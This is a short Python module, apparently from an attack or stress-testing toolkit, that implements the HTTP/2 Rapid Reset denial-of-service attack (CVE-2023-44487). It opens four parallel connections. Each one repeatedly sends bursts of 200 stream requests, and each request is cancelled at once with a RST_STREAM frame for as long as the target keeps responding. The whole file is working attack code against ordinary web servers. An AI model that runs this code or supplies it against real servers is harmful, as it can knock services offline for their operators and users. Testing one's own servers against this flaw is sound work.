"""Requests that are reset at once (RFC 9113, 10.5; CVE-2023-44487)."""

from wire.http2 import RST_STREAM, ask, frame, http2


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            stream = 1
            while it and target.goes_on():
                burst = b""
                for _ in range(200):
                    burst += ask(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    stream += 2
                await it.send(burst)

    await target.lanes(4, lane)
